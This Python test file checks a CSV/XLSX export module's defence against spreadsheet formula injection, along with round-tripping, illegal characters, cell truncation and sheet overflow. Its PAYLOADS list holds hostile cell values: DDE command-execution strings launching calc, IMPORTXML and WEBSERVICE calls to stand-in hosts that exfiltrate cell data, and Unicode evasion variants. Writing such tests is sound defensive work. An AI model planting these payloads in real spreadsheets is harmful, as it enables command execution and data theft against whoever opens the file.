"""Cells: nothing is evaluated, nothing is lost."""

import csv
import io
from pathlib import Path

import openpyxl  # type: ignore[import-untyped]  # ships no types
import pytest
from hypothesis import given
from hypothesis import strategies as st

from jerat.exchange.cells import XLSX_CELL_LIMIT, csv_cell, csv_text, readable, xlsx_cell
from jerat.exchange.tables import CsvTable, XlsxTable

PAYLOADS = [
    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")", "=IMPORTXML(CONCAT(\"http://e.example/?\",A1),\"//a\")",
    "=WEBSERVICE(\"http://e.example\")", "=DDE(\"cmd\";\"/C calc\";\"1\")", "=@SUM(1)", "==1", "=+1", "=-1", "='a'!A1", "=1;2",
    "+1+1", "+cmd|' /C calc'!A0", "+6281234567890", "+85512345678", "+(1)", "+A1", "++1",
    "-1+1", "-2+3+cmd|' /C calc'!A0", "- bullet", "--1", "-A1",
    "@SUM(1+1)", "@handle", "@A1", "@@",
    "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", " =1+1", "   +1", "\u00a0=1+1", "\u3000=1+1", "\u200b=1+1", "\ufeff=1+1",
    "\u202e=1+1", "\u2060+1", "\x0b=1", "\x0c=1", "\x1c=1", "\x85=1", "\u2028=1", "\u2029=1",
    "＝1+1", "＋1", "－1", "＠SUM(1)", "\u22121", "﹢1", "﹣1", "﹦1", "﹫x",
    "'=1+1", "'", "''", "\t", "\r", "\n", "'+62",
]  # fmt: skip
STARTS = set("=+-@＝＋－＠\u2212﹢﹣﹦﹫")


def starts_formula(cell: str) -> bool:
    """An independent reading: the first character that is seen would begin a formula."""
    for char in cell:
        if char.isspace() or char in "\u200b\u200c\u200d\u200e\u200f\u2060\ufeff\u202e\u202a":
            continue
        return char in STARTS
    return False


def test_corpus_is_large() -> None:
    assert len(PAYLOADS) >= 40


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_begins_a_formula_in_csv(payload: str) -> None:
    cell = csv_cell(payload)
    assert not starts_formula(cell)
    assert cell[:1] not in ("\t", "\r", "\n")
    assert csv_text(cell) == readable(payload)


@given(st.text())
def test_csv_guard_is_reversible_and_leaves_no_formula(text: str) -> None:
    cell = csv_cell(text)
    assert not starts_formula(cell)
    assert csv_text(cell) == readable(text)


@pytest.mark.parametrize(
    "harmless", ["", "gaji 800", "a=b", "5-10 juta", "飞机 @x", "1+1", "https://x.example/?a=b", "“+62”"]
)
def test_harmless_text_stays_as_it_is(harmless: str) -> None:
    assert csv_cell(harmless) == harmless


@given(st.lists(st.text(), min_size=1, max_size=5))
def test_csv_rows_come_back_through_a_reader(cells: list[str]) -> None:
    stream = io.BytesIO()
    table = CsvTable(stream, [f"c{at}" for at in range(len(cells))])
    table.row(cells, None)
    table.close()
    head, row = csv.reader(io.StringIO(stream.getvalue().decode("utf-8-sig"), newline=""))
    assert len(head) == len(cells)
    assert [csv_text(cell) for cell in row] == [readable(cell) for cell in cells]


def test_raw_csv_has_no_guard_and_no_mark() -> None:
    stream = io.BytesIO()
    table = CsvTable(stream, ["phone"], raw=True)
    table.row(["+85512345678"], None)
    table.close()
    assert stream.getvalue() == b"phone\r\n+85512345678\r\n"


def test_workbook_holds_every_payload_as_text(tmp_path: Path) -> None:
    file = tmp_path / "a.xlsx"
    with XlsxTable(file, "posts", ["payload"]) as table:
        for payload in PAYLOADS:
            table.row([payload], None)
    sheet = openpyxl.load_workbook(file)["posts"]
    for row, payload in enumerate(PAYLOADS, 2):
        cell = sheet.cell(row, 1)
        assert cell.data_type == "s", payload
        assert cell.value == readable(payload).replace("\r\n", "\n").replace("\r", "\n"), payload


@given(
    st.text(alphabet=st.characters(exclude_categories=["Cc", "Cs"]).filter(str.isprintable), min_size=1, max_size=60)
)
def test_workbook_gives_back_any_text(tmp_path: Path, text: str) -> None:
    file = tmp_path / "a.xlsx"
    with XlsxTable(file, "posts", ["text"]) as table:
        table.row([text], None)
    cell = openpyxl.load_workbook(file)["posts"]["A2"]
    assert cell.data_type == "s"
    assert cell.value == readable(text)


def test_illegal_characters_do_not_break_the_workbook(tmp_path: Path) -> None:
    file = tmp_path / "a.xlsx"
    with XlsxTable(file, "posts", ["text"]) as table:
        table.row(["a\x00b\x1bc\ud800d\uffffe"], None)
    assert openpyxl.load_workbook(file)["posts"]["A2"].value == "a\ufffdb\ufffdc\ufffdd\ufffde"


@pytest.mark.parametrize("letter", ["a", "园", "😀"])
def test_a_text_too_long_for_a_cell_is_cut_and_says_so(letter: str) -> None:
    fits = letter * (XLSX_CELL_LIMIT // len(letter.encode("utf-16-le")) * 2)
    assert xlsx_cell(fits) == (fits, False)
    cell, cut = xlsx_cell(letter * 40_000)
    assert cut
    assert "cut here: the text has 40000 characters" in cell
    assert len(cell.encode("utf-16-le")) // 2 <= XLSX_CELL_LIMIT
    assert cell.startswith(letter * 15_000)


def test_rows_beyond_a_sheet_go_on_a_further_one(tmp_path: Path) -> None:
    file = tmp_path / "a.xlsx"
    with XlsxTable(file, "posts", ["n"], sheet_rows=4) as table:
        for number in range(8):
            table.row([number], None)
    book = openpyxl.load_workbook(file)
    assert book.sheetnames == ["posts", "posts 2", "posts 3"]
    rows = [[cell.value for (cell,) in sheet.iter_rows()] for sheet in book]
    assert rows == [["n", 0, 1, 2], ["n", 3, 4, 5], ["n", 6, 7]]
